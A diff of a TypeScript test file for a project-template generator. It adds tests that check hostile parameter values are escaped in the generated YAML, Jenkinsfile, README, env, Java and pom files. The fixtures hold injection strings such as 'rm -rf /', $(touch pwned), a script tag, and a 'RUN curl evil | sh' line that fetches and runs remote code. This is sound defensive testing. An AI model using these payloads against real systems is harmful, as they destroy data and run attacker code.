@@ -10,6 +10,8 @@ import { getTemplate, listTemplates, sampleRenderValues, unsafeLoadTemplateCatal
 import { ZTemplateManifest } from "./manifest";
 import { renderTemplate, type RenderedFile, type TRenderValues } from "./render";
 import { GPU_RESOURCE, parseWharfSpec, ZWharfSpec } from "./wharf-spec";
+import { oneLine } from "./escape";
+import { markdownShape, markdownText, parseGroovy, parseJava, parseMarkdown, parseXml, pythonSettings, sourceShell, type XmlNode } from "./testing/parsers";
 
 const BUILTIN = path.resolve(process.cwd(), "templates");
 const IDS = ["node-ts", "python-fastapi", "spring-boot"];
@@ -197,7 +199,7 @@ describe("parameters", () => {
 describe("rendered code", () => {
   it("python-fastapi compiles in both flavours", async () => {
     const python = spawnSync("python3", ["--version"]);
-    if (python.status !== 0) return; // no Python on this machine: the YAML and manifest checks above still ran
+    expect(python.status, "python3 is needed to compile the generated Python: apt-get install python3 (bash .ci/run installs it)").toBe(0);
     const template = await one("python-fastapi");
     for (const gpu of [false, true]) {
       const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wharf-py-"));
@@ -302,5 +304,187 @@ describe("templates an admin adds in WHARF_TEMPLATES_DIR", () => {
     const template = await one("spring-boot");
     const evil: Template = { ...template, manifest: { ...template.manifest, pathVariables: { packagePath: "../../etc" } } };
     expect(thrown(() => renderTemplate(evil, values(template))).code).toBe("INVALID_INPUT");
+  });
+});
+
+describe("hostile values in the generated files", () => {
+  // Each is meant to break out of wherever a template prints it: a new line that runs a command, quotes,
+  // interpolations of every language, comment ends, YAML keys and list items, Unicode line separators,
+  // bidirectional overrides, a NUL, and a \u000a that Java and Groovy read as a line break.
+  const NAME = "Shop\nsh 'rm -rf /' \\u000a \"q\" ${x} #{y} */ --> \u2028: - \u202eevil\u202c\u0000";
+  const DESCRIPTION = "First line\n# Heading\n| a | b |\n```\n<script>alert(1)</script>\n- item: z\n\u2028\u0085 ${x} #{y} */ \\u000a 'q' \"dq\"\n    indented";
+  const OWNER = { name: "O'Brien \"Bob\" | <b>x</b> \\u000a\nsh 'id'", email: "o'brien+x_y@ex-ample.com" };
+  const REPOSITORY = 'https://git.example.com/a.git\nkind: Evil\n\' "$(id)" ${x}';
+  const GREETING = "It's \"me\"\nsh 'rm -rf /' ${x} #{y} $(touch pwned) `id` */ --> : - \\u000a";
+  const TEMPLATE_NAME = "Evil\n<!-- --> </description><x>";
+  const TEMPLATE_VERSION = "1\nkind: Evil";
+
+  /**
+   * The template as an admin could have written it: free-text parameters with no pattern or options
+   * (so hostile values reach the files), and a hostile name and version of its own.
+   */
+  function permissive(template: Template): Template {
+    return {
+      ...template,
+      manifest: {
+        ...template.manifest,
+        name: TEMPLATE_NAME,
+        version: TEMPLATE_VERSION,
+        parameters: template.manifest.parameters.map((p) =>
+          p.type === "enum"
+            ? { ...p, type: "string" as const, options: undefined }
+            : p.type === "string"
+              ? { ...p, pattern: undefined, patternMessage: undefined }
+              : p,
+        ),
+      },
+    };
+  }
+
+  function renderBoth(template: Template, gpu = false) {
+    const loose = permissive(template);
+    const gpuParam = template.manifest.gpu ? { gpu } : {};
+    const benign = renderTemplate(loose, values(template, { params: gpuParam }));
+    const hostile = renderTemplate(
+      loose,
+      values(template, {
+        project: { name: NAME, description: DESCRIPTION, owner: OWNER, repositoryUrl: REPOSITORY },
+        params: { greeting: GREETING, ...gpuParam },
+      }),
+    );
+    return { benign, hostile };
+  }
+
+  /** What a YAML or JSON document is made of, without its values. */
+  const shape = (v: unknown): unknown =>
+    Array.isArray(v) ? v.map(shape) : v && typeof v === "object" ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, shape(x)])) : typeof v;
+
+  const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+
+  it.each(IDS)("%s: every file keeps its lines, and none holds a control character, line separator or bidi override", async (id) => {
+    const template = await one(id);
+    for (const gpu of template.manifest.gpu ? [false, true] : [false]) {
+      const { benign, hostile } = renderBoth(template, gpu);
+      expect(hostile.map((f) => f.path)).toEqual(benign.map((f) => f.path));
+      for (const [i, f] of hostile.entries()) {
+        expect(f.content.split("\n").length, f.path).toBe(benign[i]!.content.split("\n").length);
+        expect(f.content, f.path).not.toMatch(CONTROL);
+      }
+      // The Dockerfile prints no free text: it is the same file.
+      expect(file(hostile, "Dockerfile")).toBe(file(benign, "Dockerfile"));
+    }
+  });
+
+  it.each(IDS)("%s: every YAML file parses to the same structure, the values as plain strings", async (id) => {
+    const template = await one(id);
+    const { benign, hostile } = renderBoth(template);
+    const yamlFiles = hostile.filter((f) => /\.ya?ml$/.test(f.path));
+    expect(yamlFiles.map((f) => f.path)).toEqual(expect.arrayContaining([".tekton/pipeline.yaml", "wharf.yaml"]));
+    for (const f of yamlFiles) {
+      const parsed = parseYaml(f.content, { strict: true, uniqueKeys: true });
+      expect(shape(parsed), f.path).toEqual(shape(parseYaml(file(benign, f.path))));
+    }
+    const pipeline = parseYaml(file(hostile, ".tekton/pipeline.yaml"));
+    expect(pipeline.spec.params.find((p: { name: string }) => p.name === "git-url").default).toBe(REPOSITORY);
+    expect(pipeline.metadata.name).toBe("hello-world-ci");
+    // Tekton pastes $(params.*) into a step's text: the clone script reads them from variables instead.
+    const clone = pipeline.spec.tasks[0].taskSpec.steps[0];
+    expect(clone.script).not.toContain("$(params.");
+    expect(clone.env).toEqual(expect.arrayContaining([{ name: "GIT_URL", value: "$(params.url)" }]));
+    const spec = parseWharfSpec(file(hostile, "wharf.yaml"));
+    expect(spec.ok ? [] : spec.errors).toEqual([]);
+    expect(parseYaml(file(hostile, "wharf.yaml")).metadata).toMatchObject({ owner: OWNER.email, template: { version: TEMPLATE_VERSION } });
+    if (id === "spring-boot") expect(parseYaml(file(hostile, "src/main/resources/application.yaml")).app.greeting).toBe(GREETING);
+  });
+
+  it.each(IDS)("%s: Groovy reads the same Jenkinsfile: the name stays in its comment, the literals hold their values", async (id) => {
+    const template = await one(id);
+    const { benign, hostile } = renderBoth(template);
+    const [b, h] = parseGroovy({ Benign: file(benign, "Jenkinsfile"), Hostile: file(hostile, "Jenkinsfile") });
+    expect("error" in h! ? h.error : "").toBe("");
+    expect("statements" in h! && h.statements).toEqual("statements" in b! && b.statements);
+    const call = "statements" in h! ? h.statements[1] : undefined;
+    expect(call).toMatchObject({ call: "wharfPipeline" });
+    expect(JSON.stringify(call)).toContain(JSON.stringify({ key: { const: "project" }, value: { const: "hello-world" } }));
+    expect(file(hostile, "Jenkinsfile").split("\n")[0]).toBe(
+      `// CI for ${oneLine(NAME).replace(/\\/g, "\\\\").replace("*/", "* /")}: the company's shared pipeline library builds,`,
+    );
+  });
+
+  it.each(IDS)("%s: the README has the same headings, paragraphs and table, each value as text", async (id) => {
+    const template = await one(id);
+    const { benign, hostile } = renderBoth(template);
+    const tree = parseMarkdown(file(hostile, "README.md"));
+    expect(markdownShape(tree)).toEqual(markdownShape(parseMarkdown(file(benign, "README.md"))));
+    const [heading, description, table] = tree.children!;
+    expect(markdownText(heading!)).toBe(oneLine(NAME).trim());
+    expect(markdownText(description!)).toBe(oneLine(DESCRIPTION).trim());
+    const rows = Object.fromEntries(table!.children!.map((r) => [markdownText(r.children![0]!), markdownText(r.children![1]!)]));
+    expect(rows.Owner).toBe(`${oneLine(OWNER.name)} ${OWNER.email}`);
+    expect(rows.Template).toBe(`${oneLine(TEMPLATE_NAME)} (v${oneLine(TEMPLATE_VERSION)})`);
+    const endpoints = tree.children!.find((n) => n.type === "table" && markdownText(n).includes("GET /"))!;
+    const hello = endpoints.children!.find((r) => markdownText(r.children![0]!) === "GET /")!;
+    expect(markdownText(hello.children![1]!)).toBe(`{"message": ${JSON.stringify(`${GREETING} from hello-world!`)}}`);
+    const last = tree.children!.at(-1)!;
+    expect(markdownText(last)).toBe(`Repository: ${oneLine(REPOSITORY)}`);
+  });
+
+  it.each(IDS)("%s: shell and Python read the configuration files back, running nothing", async (id) => {
+    const template = await one(id);
+    const { hostile } = renderBoth(template);
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wharf-hostile-"));
+    try {
+      const env = sourceShell(file(hostile, ".env.example"), dir);
+      expect(env[id === "spring-boot" ? "APP_GREETING" : "GREETING"]).toBe(oneLine(GREETING));
+      if (id !== "spring-boot") expect(env.APP_NAME).toBe("hello-world");
+      expect(fs.readdirSync(dir)).toEqual([]);
+      if (id === "python-fastapi") {
+        expect(sourceShell(file(hostile, "config/default.env"), dir)).toMatchObject({ GREETING: oneLine(GREETING), APP_NAME: "hello-world" });
+        writeTree(dir, hostile);
+        expect(pythonSettings(dir)).toMatchObject({ app_name: "hello-world", greeting: oneLine(GREETING), port: 8000 });
+        expect(fs.existsSync(path.join(dir, "pwned"))).toBe(false);
+      }
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it("node-ts: the JSON files parse to the same keys, the description and greeting verbatim", async () => {
+    const template = await one("node-ts");
+    const { benign, hostile } = renderBoth(template);
+    for (const p of ["package.json", "config/default.json"]) expect(shape(JSON.parse(file(hostile, p))), p).toEqual(shape(JSON.parse(file(benign, p))));
+    expect(JSON.parse(file(hostile, "package.json")).description).toBe(DESCRIPTION);
+    expect(JSON.parse(file(hostile, "config/default.json")).greeting).toBe(GREETING);
+  });
+
+  it("spring-boot: javac reads the same Java, the test's expected greeting verbatim; the pom is well-formed with the template's name as text", async () => {
+    const template = await one("spring-boot");
+    const { benign, hostile } = renderBoth(template);
+    const javaOf = (files: RenderedFile[], dir: string) =>
+      files.filter((f) => f.path.endsWith(".java")).map((f) => [`${dir}/${path.basename(f.path)}`, f.content]);
+    const parsed = parseJava(Object.fromEntries([...javaOf(benign, "benign"), ...javaOf(hostile, "hostile")]));
+    const [b, h] = [parsed.filter((f) => f.file.startsWith("benign/")), parsed.filter((f) => f.file.startsWith("hostile/"))];
+    expect(h.map((f) => f.errors)).toEqual([[], [], []]);
+    expect(h.map((f) => [path.basename(f.file), f.package, f.shape])).toEqual(b.map((f) => [path.basename(f.file), f.package, f.shape]));
+    expect(h.find((f) => f.file === "hostile/ApplicationTests.java")!.literals).toContain(`${GREETING} from hello-world!`);
+
+    const elements = (n: XmlNode): unknown => ({ type: n.type, children: (n.children ?? []).map(elements) });
+    const pom = parseXml(file(hostile, "pom.xml"));
+    expect(elements(pom)).toEqual(elements(parseXml(file(benign, "pom.xml"))));
+    expect(pom.children!.find((n) => n.type === "description")!.text).toBe(`Generated by Wharf from the ${TEMPLATE_NAME} template.`);
+  });
+
+  it("a version or group id that cannot be escaped where it is printed (Dockerfile, Java package) is refused on its field", async () => {
+    for (const [id, param] of [
+      ["node-ts", "nodeVersion"],
+      ["python-fastapi", "pythonVersion"],
+      ["spring-boot", "javaVersion"],
+      ["spring-boot", "groupId"],
+    ] as const) {
+      const template = permissive(await one(id));
+      const e = thrown(() => renderTemplate(template, values(template, { params: { [param]: "22\nRUN curl evil | sh" } })));
+      expect(e.code, `${id} ${param}`).toBe("INVALID_INPUT");
+      expect(Object.keys(e.fieldErrors ?? {}), `${id} ${param}`).toEqual([`params.${param}`]);
+    }
   });
 });
